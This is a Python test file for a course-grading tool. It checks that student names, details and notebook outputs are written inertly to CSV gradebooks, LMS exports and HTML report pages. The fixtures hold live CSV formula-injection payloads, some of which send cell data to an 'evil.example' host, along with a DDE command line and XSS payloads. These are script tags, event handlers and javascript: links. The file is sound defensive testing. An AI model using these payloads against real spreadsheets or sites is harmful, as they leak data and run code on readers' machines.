"""Nothing a student writes reaches the instructor's files as code (:mod:`tinyk.reports.inert`): names,
details and outputs planted as spreadsheet formulas and as HTML, through every CSV writer
(``grades.csv``, its shards' merge, ``class_report.csv``, the three LMS files) and every
page of the class report; each written file read back as a spreadsheet or a browser would."""

from __future__ import annotations

import csv
import html
import json
import re
from pathlib import Path

import pytest

from tests.optional import need
from tinyk.grading import batch as class_batch
from tinyk.grading import batch as grading_batch
from tinyk.grading import cli
from tinyk.reports import inert
from tinyk.reports.gradebook import read_grades
from tinyk.reports.gradebook_schema import Row, Status
from tinyk.reports.lms import FORMATS
from tinyk.reports.submitters import student_id

# Each starts a formula in Excel, LibreOffice or Google Sheets (OWASP, "CSV Injection").
# (a folder's name holds no slash: the detail column plants the whole address)
HOSTILE = ['=HYPERLINK("evil.example?leak="&A1,"Click for your grade")',
           "+cmd|' -c calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
# Honest names that must reach every file as they are, and those that must keep a quote apart.
HONEST = ["Zoë Ünal", "O'Neill", "ana-maria", "'quoted'", "1e3", "José_2"]
FORMULA_START = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _inert_cells(path: Path) -> list[list[str]]:
    """The CSV's cells, each checked as a spreadsheet opens it: a number, or text that
    starts no formula."""
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            assert NUMBER.fullmatch(cell) or not FORMULA_START.match(cell), (path.name, cell)
    return rows


@pytest.mark.parametrize("text", [*HOSTILE, "-", "+", "=", "'=1", "''@x"])
def test_a_formula_gets_a_quote_that_comes_off_again(text):
    cell = inert.csv_cell(text)
    assert cell == "'" + text and not FORMULA_START.match(cell)
    assert inert.csv_value(cell) == text


@pytest.mark.parametrize("text", [*HONEST, "-1.5", "+3", "2e-3", "-0", ".5", "", "O'Brien, Pat"])
def test_numbers_and_honest_text_are_written_as_they_are(text):
    assert inert.csv_cell(text) == text and inert.csv_value(text) == text


def test_the_check_of_a_written_csv_fails_a_formula(tmp_path):
    (tmp_path / "raw.csv").write_text("student\n=1+1\n", encoding="utf-8")
    with pytest.raises(AssertionError):
        _inert_cells(tmp_path / "raw.csv")


def _class_folder(tmp_path: Path, names: list[str]) -> tuple[Path, list[Path]]:
    """The parts a grading run leaves (``<out>.parts/<id>.json``), for ``names``, one
    notebook of two exercises each; the detail quotes a formula too."""
    subs, parts = tmp_path / "subs", tmp_path / "grades.csv.parts"
    subs.mkdir()
    parts.mkdir()
    entries = []
    for k, name in enumerate(names):
        (subs / name).mkdir()
        entries.append(subs / name)
        rows = [Row(name, "05_3_rope", "ex_05_3_1_test", float(k % 3), 2.0, Status.OK,
                    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")" if k % 2 else ""),
                Row(name, "05_3_rope", "ex_05_3_2_test", 1.5, 3.0, Status.ERROR, "-1.5 is not 2")]
        (parts / f"{student_id(name)}.json").write_text(json.dumps({"rows": [r.__dict__ for r in rows]}))
    return subs, entries


@pytest.fixture
def gradebook(tmp_path) -> tuple[Path, list[Row]]:
    """``grades.csv`` as the grader writes it (:func:`tinyk.grading.batch._gather`) for a
    class of hostile and honest names."""
    _, entries = _class_folder(tmp_path, HOSTILE + HONEST)
    rows = class_batch._gather(tmp_path / "grades.csv.parts", entries, tmp_path / "grades.csv")
    return tmp_path / "grades.csv", rows


def test_grades_csv_is_inert_and_reads_back_as_the_grader_had_it(gradebook):
    path, rows = gradebook
    table = _inert_cells(path)
    written = {r[0] for r in table[1:]}
    assert {"'" + name for name in HOSTILE} <= written and set(HONEST) <= written
    assert table[1][0] == "'\t=1+1"
    assert table[2][2:] == ["ex_05_3_2_test", "1.5", "3", "error", "'-1.5 is not 2"]
    assert any(r[6].startswith("'=IMPORTXML(") for r in table[1:])
    # read back (the class report's and the LMS export's reader): the real names and details
    grades = read_grades(path)
    assert [(g.student, g.points, g.detail) for g in grades] == [(r.student, r.points, r.detail)
                                                                 for r in rows]


def test_shards_merge_into_the_single_runs_csv_with_the_real_names(tmp_path, gradebook):
    single, _ = gradebook
    entries = sorted((tmp_path / "subs").iterdir())
    shards = []
    for k in range(2):
        out = tmp_path / f"shard{k}.csv"
        class_batch._gather(tmp_path / "grades.csv.parts", entries[k::2], out)
        shards.append(out)
    assert grading_batch.merge(tmp_path / "merged.csv", shards) == 2 * len(entries)
    assert (tmp_path / "merged.csv").read_bytes() == single.read_bytes()
    # a student in two shards is named as the grader knows them, without the quote
    again = tmp_path / "again.csv"
    again.write_bytes(shards[0].read_bytes())
    first = next(name for name in sorted(HOSTILE + HONEST) if (tmp_path / "subs" / name) in entries[0::2])
    with pytest.raises(SystemExit, match=re.escape(f"student {first!r} is in both")):
        grading_batch.merge(tmp_path / "twice.csv", [shards[0], again])


def test_the_class_report_shows_the_real_names_inertly(gradebook, capsys):
    path, _ = gradebook
    out = path.parent / "report"
    assert cli.main(["report", str(path), "--out", str(out)]) == 0, capsys.readouterr().err
    report_rows = _inert_cells(out / "class_report.csv")
    assert ["status", "05_3_rope", "", "error", "12", "1.0000", ""] in report_rows
    with (out / "index.html").open(encoding="utf-8", newline="") as f:
        index = f.read()
    names = HOSTILE + HONEST
    assert len(names) == 12
    for name in names:
        page = out / "students" / f"{student_id(name)}.html"  # the id the feedback folder has
        with page.open(encoding="utf-8", newline="") as f:
            text = f.read()
        assert inert.page_problems(text) == [], page
        assert f"<h1>Your grades: {html.escape(name)}</h1>" in text
        assert f">{html.escape(name)}</a></th>" in index
    assert inert.page_problems(index) == []


ROSTER_FIELDS = ["folder", "lms_id", "name", "email", "section", "first_name", "last_name"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_lms_file_is_inert_and_matches_each_student(gradebook, capsys, fmt):
    """Roster names planted as formulas in every name column; the hostile folders matched to
    their grades through ``grades.csv``'s quote; scores stay numbers. (A roster's folder is
    taken without its leading and trailing spaces, so the tab- and CR-led folders are not on
    it; their names, planted in a name column, lose their tab or CR there too.)"""
    path, _ = gradebook
    roster = [ROSTER_FIELDS]
    for k, name in enumerate(HOSTILE + HONEST):
        if name.strip() == name:
            roster.append([name, f"{1000 + k}", name, f"s{k}@example.org", "@A1", HOSTILE[k % 6], name])
    with (path.parent / "roster.csv").open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(roster)
    out = path.parent / f"{fmt}.csv"
    code = cli.main(["export", str(path), "--format", fmt, "--roster", str(path.parent / "roster.csv"),
                         "--out", str(out)])
    err = capsys.readouterr().err
    unknown = [repr(n) for n in sorted(n for n in HOSTILE if n.strip() != n)]
    assert code == 1 and re.findall(r"export: ('.*?') is graded", err) == unknown, err
    table = _inert_cells(out)
    students = [r for r in table[1:] if not r[0].endswith("Points Possible")]
    assert len(students) == len(roster) - 1  # every other student matched: the reader took the quotes off
    assert "has no grade" not in err
    cells = {c for r in students for c in r}
    folders = [n for n in HOSTILE if n.strip() == n]  # on the roster
    assert len(folders) == 4
    for name in folders:  # every hostile name shows, as text
        assert any(c.startswith("'" + name) for c in cells), name
    if fmt == "moodle":  # its First name column: the tab- and CR-led names, the roster's spaces cut
        assert "'=1+1" in cells and not any(c.startswith(("\t", "\r", "'\t", "'\r")) for c in cells)
    assert {"1000", "1011"} <= cells
    first = table[0].index("05_3_rope")
    totals = {r[first] for r in students}
    assert totals == {"1.5", "2.5", "3.5"}  # 0-2 points and 1.5, numbers as they were


def test_an_lms_id_that_starts_a_formula_is_named(gradebook, capsys, tmp_path):
    path, _ = gradebook
    roster = [ROSTER_FIELDS, [HONEST[0], "-7x", "", "", "", "", ""]]
    with (tmp_path / "roster.csv").open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(roster)
    code = cli.main(["export", str(path), "--format", "moodle", "--roster", str(tmp_path / "roster.csv"),
                         "--out", str(tmp_path / "m.csv")])
    err = capsys.readouterr().err
    assert code == 1 and "lms_id '-7x' starts like a spreadsheet formula: written as \"'-7x\"" in err
    assert "'-7x" in [c for r in _inert_cells(tmp_path / "m.csv") for c in r]


# What a browser must not run, each planted in a page and found by the check.
PLANTED = {"<script>alert(1)</script>": "a <script> element",
           '<img src=x onerror="alert(1)">': "an event handler onerror=",
           "<iframe src='https://evil.example'></iframe>": "a <iframe> element",
           "<svg onload=alert(1)></svg>": "an event handler onload=",
           "<a href=' javascript:alert(1)'>x</a>": "a javascript: address",
           "<object data=x.swf></object>": "a <object> element",
           "<embed src=x.swf>": "a <embed> element"}


@pytest.mark.parametrize("planted", sorted(PLANTED))
def test_the_page_check_finds_each_planted_thing_and_clean_html_removes_it(planted):
    need("nbgrader")  # bleach and nbconvert, with it (the instructor extra)
    page = f"<html><head>{inert.CSP_META}</head><body>{planted}</body></html>"
    assert any(PLANTED[planted] in p for p in inert.page_problems(page)), inert.page_problems(page)
    cleaned = f"<html><head>{inert.CSP_META}</head><body>{inert.clean_html(planted)}</body></html>"
    assert inert.page_problems(cleaned) == []
    assert inert.page_problems("<html><head></head><body></body></html>") == [
        "no Content-Security-Policy meta element"]


def test_clean_html_keeps_an_honest_table_and_a_data_image():
    need("nbgrader")  # bleach and nbconvert, with it (the instructor extra)
    table = ('<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th>a</th></tr>'
             '</thead><tbody><tr><td>-1.5</td></tr></tbody></table>'
             '<img src="data:image/png;base64,AAAA" alt="p"><a href="https://example.org/x">link</a>')
    assert inert.clean_html(table) == table


def test_with_csp_puts_the_policy_first_and_takes_the_scripts_out():
    page = ('<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8"/>\n<script src="https://cdn.example/m.js">'
            '</script>\n<script type="text/x-mathjax-config">init();</script><style>p{color:red}</style>\n'
            "</head><body><p>ok</p></body></html>")
    shown = inert.with_csp(page)
    assert shown.startswith(f'<!DOCTYPE html>\n<html>\n<head>\n{inert.CSP_META}\n<meta charset="utf-8"/>')
    assert "<script" not in shown and "<style>p{color:red}</style>" in shown
    assert inert.page_problems(shown) == []


def test_every_csv_is_written_by_the_one_helper():
    """No module of the package writes a CSV but :func:`tinyk.reports.inert.write_csv`: a new writer
    that forgot it fails here."""
    package = Path(inert.__file__).parents[1]
    writers = sorted(str(p.relative_to(package)) for p in package.rglob("*.py")
                     if "csv.writer(" in p.read_text(encoding="utf-8") or "csv.DictWriter(" in p.read_text())
    assert writers == ["reports/inert.py"]
    for name in ("grading/batch.py", "reports/class_report.py", "reports/lms.py"):
        assert "write_csv(" in (package / name).read_text(encoding="utf-8"), name


def test_a_cell_with_a_line_end_reads_back_whole(tmp_path):
    rows = [["\r=1+1", "05_3_rope", "ex", "1", "2", "ok", "line one\nline two"]]
    class_batch._write_csv(tmp_path / "grades.csv", rows)
    (g,) = read_grades(tmp_path / "grades.csv")
    assert (g.student, g.detail) == ("\r=1+1", "line one\nline two")


def test_a_notebook_is_left_with_nothing_nbconvert_would_run():
    """What nbgrader's feedback template writes as it is: a cell's tags and grade_id, raw
    cells, JavaScript and widget outputs, HTML shown "isolated" (an iframe)."""
    need("nbgrader")  # bleach and nbconvert, with it (the instructor extra)
    nb = {"cells": [
        {"cell_type": "code", "source": "", "outputs": [
            {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
             "data": {"text/html": "<b>x</b><script>alert(1)</script>", "text/plain": "x"}},
            {"output_type": "display_data", "metadata": {},
             "data": {"application/javascript": "alert(2)", "text/plain": "<Javascript>",
                      "application/vnd.jupyter.widget-view+json": {"model_id": "m"}}},
            {"output_type": "execute_result", "metadata": {"image/png": {"width": 9}},
             "data": {"text/markdown": "*md* <img src=x onerror=alert(3)>", "image/png": "AAAA"}}],
         "metadata": {"tags": ['x"><script>alert(4)</script>', "solution"],
                      "nbgrader": {"grade_id": "<script>alert(5)</script>", "grade": True}}},
        {"cell_type": "raw", "source": "<script>alert(6)</script>", "metadata": {}},
        {"cell_type": "markdown", "source": "# Hi\n\n<img src=x onerror=alert(7)>\n\ntext", "metadata": {
            "nbgrader": {"grade_id": "ex_05_3_1", "solution": True}}}],
        "metadata": {"kernelspec": {}, "widgets": {"application/vnd.jupyter.widget-state+json": {}}}}
    inert.inert_notebook(nb)
    assert nb["metadata"] == {"kernelspec": {}}
    code, raw, markdown = nb["cells"]
    first, script, md = code["outputs"]
    cleaned = "<b>x</b>&lt;script&gt;alert(1)&lt;/script&gt;"
    assert first == {"output_type": "display_data", "metadata": {},
                     "data": {"text/html": cleaned, "text/plain": "x"}}
    assert script["data"] == {"text/plain": "<Javascript>"}
    assert md["data"] == {"image/png": "AAAA", "text/html": "<p><em>md</em> <img></p>\n"}
    assert md["metadata"] == {"image/png": {"width": 9}}
    assert code["metadata"] == {"tags": ["solution"]} and raw["source"] == ""
    assert markdown["metadata"]["nbgrader"]["grade_id"] == "ex_05_3_1"
    # the HTML block's <img> kept without its address and handler: one line, to pass Markdown unchanged
    assert markdown["source"] == ('<div class="inert"><h1 id="Hi">Hi<a class="anchor-link" href="#Hi">'
                                  "&#182;</a></h1><img>&#10;&#10;<p>text</p>&#10;</div>")


def test_a_feedback_page_that_would_still_run_something_is_withheld(tmp_path, capsys):
    need("nbgrader")  # bleach and nbconvert, with it (the instructor extra)
    from tinyk.grading.student_feedback import _inert_pages

    head = "<!DOCTYPE html><html><head><title>t</title><script src='https://cdn.example/m.js'></script></head>"
    (tmp_path / "ok.html").write_text(f"{head}<body><p>fine</p></body></html>", encoding="utf-8")
    (tmp_path / "bad.html").write_text(f"{head}<body><iframe src='x'></iframe></body></html>",
                                       encoding="utf-8")
    _inert_pages(tmp_path, "amy")
    assert [p.name for p in tmp_path.iterdir()] == ["ok.html"]
    assert inert.page_problems((tmp_path / "ok.html").read_text(encoding="utf-8")) == []
    assert capsys.readouterr().err == (
        "amy: no feedback in bad.html, it would hold a <iframe> element; "
        "src='x' on <iframe> fetches or runs a file\n")
